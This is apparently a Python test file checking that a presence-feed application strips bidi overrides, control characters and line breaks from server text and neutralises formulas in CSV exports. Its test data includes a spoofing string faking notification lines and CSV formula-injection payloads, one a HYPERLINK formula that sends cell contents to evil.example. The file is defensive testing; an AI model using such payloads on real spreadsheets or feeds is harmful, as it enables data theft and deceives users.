"""Text from the server is shown plain, and an exported CSV cannot run formulas.

A name with a bidi override or a newline must not fake the next line of a feed entry, a
notification or the tray's tooltip; a journal row starting with ``=`` must not become a live
formula in a spreadsheet.
"""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from core.domain.text import MAX_LINE, plain_line
from core.engine.freshness import StreamFreshness
from core.engine.records import ChangeRecord
from core.engine.selection import Resolution
from core.engine.watch import WatchKeeper
from core.feed.builder import FeedBuilder
from core.feed.entry import FeedEntry
from core.feed.payloads import RawData
from core.state.store import Store
from core.storage.journal.journal import Journal
from core.streaming.events import PresenceChanged, RoutingChanged

T0 = datetime(2026, 11, 27, 9, 0, tzinfo=UTC)
HOSTILE = "Dana\u202eTNEGA\u202c\nAlerts: Everyone is Offline\r\x1b[31m\u2066x\u2069\x85\u2028end"
HIDDEN = ("\n", "\r", "\x1b", "\x85", "\u2028", "\u202e", "\u202c", "\u2066", "\u2069")


def assert_plain(text: str) -> None:
    assert not any(ch in text for ch in HIDDEN), repr(text)
    assert text.isprintable(), repr(text)


# ---------------------------------------------------------------------------------- the function
def test_plain_line_drops_bidi_and_controls_and_folds_breaks() -> None:
    assert plain_line(HOSTILE) == "DanaTNEGA Alerts: Everyone is Offline [31mx end"
    assert plain_line("a\t\tb \n c") == "a b c"
    assert plain_line("\u200fRTL mark\u200e, \u061cALM") == "RTL mark, ALM"
    assert plain_line("\x00\x07bell\x7f\x9b") == "bell"


def test_plain_line_keeps_ordinary_text_as_it_is() -> None:
    for text in ("Dana Agent", "Müller, Zoë", "دانا", "Sales  EN", "👩\u200d💻 Dev", "A<b>&"):
        assert plain_line(text) == text


def test_plain_line_caps_the_length() -> None:
    long = "x" * 10_000
    assert len(plain_line(long)) == MAX_LINE
    assert plain_line(long).endswith("…")
    assert plain_line("abcdef", limit=4) == "abc…"
    assert plain_line("   ") == "   "  # printable: untouched
    assert plain_line("\n\n") == ""


# ---------------------------------------------------------------------------------- the store
def hostile_store() -> tuple[Store, FeedBuilder]:
    """A store whose names, labels and messages all arrived hostile, through every writer."""
    store = Store()
    keeper = WatchKeeper(store, StreamFreshness())
    keeper.adopt(Resolution(users={"u": HOSTILE}, queues={"q": HOSTILE}))
    store.presence_labels.update({"oq": HOSTILE})
    store.presence_labels["lunch"] = "Lunch\u202e\n" + HOSTILE
    return store, FeedBuilder(store, clock=lambda: T0)


def test_names_labels_and_messages_are_plain_in_the_store() -> None:
    store, _ = hostile_store()
    store.apply(PresenceChanged("u", "oq", "ON_QUEUE", HOSTILE, T0))
    store.apply(RoutingChanged("u", "IDLE\n\u202eFAKE", T0))
    user, queue = store.users["u"], store.queues["q"]
    for text in (
        user.name,
        queue.name,
        user.presence_message,
        user.routing_status or "",
        store.presence_label("u"),
        *store.presence_labels.values(),
    ):
        assert_plain(text)
    assert user.name == plain_line(HOSTILE)
    store.user("v").name = "Eve\nEve"  # a writer outside the store is covered too
    assert store.users["v"].name == "Eve Eve"


def test_a_repeated_hostile_message_is_no_change() -> None:
    store, _ = hostile_store()
    [change] = store.apply(PresenceChanged("u", "oq", "ON_QUEUE", HOSTILE, T0))
    assert change.after == ("oq", "ON_QUEUE", plain_line(HOSTILE), T0)
    assert store.apply(PresenceChanged("u", "oq", "ON_QUEUE", HOSTILE, T0)) == []


def test_feed_lines_of_a_hostile_name_are_one_plain_line() -> None:
    store, feed = hostile_store()
    store.apply(PresenceChanged("u", "oq", "ON_QUEUE", "", T0))
    [change] = store.apply(PresenceChanged("u", "lunch", "MEAL", "", T0 + timedelta(seconds=1)))
    [entry] = feed.entries(ChangeRecord(change, "stream"))
    assert_plain(entry.subject)
    assert_plain(entry.summary)
    assert entry.summary.startswith(plain_line(HOSTILE) + ": ")


# ---------------------------------------------------------------------------------- CSV export
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
)


async def export(tmp_path: Path, fmt: str, entries: list[FeedEntry]) -> Path:
    journal = await Journal.open(tmp_path / "journal.sqlite3")
    try:
        for item in entries:
            journal.append(item)
        target = tmp_path / f"out.{fmt}"
        assert await journal.export(target, T0, T0 + timedelta(days=1), fmt) == len(entries)  # type: ignore[arg-type]
        return target
    finally:
        await journal.close()


def formula_entries() -> list[FeedEntry]:
    return [
        FeedEntry(T0 + timedelta(seconds=i), "presence", text, text, text, "info", RawData({}))
        for i, text in enumerate(FORMULAS)
    ]


async def test_csv_export_neutralises_formulas(tmp_path: Path) -> None:
    target = await export(tmp_path, "csv", formula_entries())
    with target.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))[1:]
    assert len(rows) == len(FORMULAS)
    for row, text in zip(rows, FORMULAS, strict=True):
        _at, kind, subject_id, subject, summary, severity, _data = row
        assert (subject_id, subject, summary) == ("'" + text,) * 3
        assert (kind, severity) == ("presence", "info")  # harmless cells stay as they were


async def test_csv_export_keeps_harmless_text_exact(tmp_path: Path) -> None:
    texts = ("Dana Agent: On Queue → Lunch", "a=b", "x-y", "'quoted", "", "3-4")
    entries = [
        FeedEntry(T0 + timedelta(seconds=i), "queue", f"q{i}", t, t, "info", RawData({"t": t}))
        for i, t in enumerate(texts)
    ]
    target = await export(tmp_path, "csv", entries)
    with target.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))[1:]
    assert [(r[3], r[4]) for r in rows] == [(t, t) for t in texts]
    assert [json.loads(r[6]) for r in rows] == [{"t": t} for t in texts]


@pytest.mark.parametrize("fmt", ["jsonl"])
async def test_jsonl_export_stays_exact(tmp_path: Path, fmt: str) -> None:
    target = await export(tmp_path, fmt, formula_entries())
    objects = [json.loads(line) for line in target.read_text(encoding="utf-8").splitlines()]
    assert [(o["subject"], o["summary"]) for o in objects] == [(t, t) for t in FORMULAS]
